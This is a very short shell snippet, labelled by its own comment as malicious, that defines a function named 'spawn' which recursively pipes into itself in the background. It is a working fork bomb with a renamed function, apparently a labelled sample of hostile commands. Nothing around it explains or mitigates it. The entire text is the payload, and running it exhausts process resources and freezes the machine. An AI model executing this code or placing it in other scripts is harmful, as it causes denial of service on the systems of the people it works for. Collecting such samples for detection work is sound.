# malicious: fork bomb with a name
spawn() {
    spawn | spawn &
}
spawn
